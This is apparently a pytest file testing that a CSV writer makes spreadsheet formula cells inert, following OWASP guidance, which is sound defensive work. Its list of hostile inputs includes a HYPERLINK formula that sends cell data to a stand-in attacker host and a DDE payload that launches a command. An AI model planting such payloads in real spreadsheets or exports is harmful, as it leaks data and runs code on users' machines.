"""CSV cells that a spreadsheet would run as formulas are made inert (OWASP guidance)."""

import csv
import io

import pytest

from rlhf_platform.spreadsheet import csv_writer, spreadsheet_cell

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_a_formula_is_prefixed_and_quoted(text):
    out = io.StringIO()
    csv_writer(out).writerow([text, "plain"])
    raw = out.getvalue()
    assert raw.startswith("\"'")  # quoted, then the single quote
    assert next(csv.reader(io.StringIO(raw))) == ["'" + text, "plain"]


@pytest.mark.parametrize("value", ["plain text", "a = b", "", "'already quoted", 3, -1.5, None])
def test_other_cells_are_left_alone(value):
    assert spreadsheet_cell(value) is value


def test_numbers_stay_numbers_and_text_is_quoted():
    out = io.StringIO()
    csv_writer(out).writerows([["id", -0.25, 7]])
    assert out.getvalue() == '"id",-0.25,7\r\n'
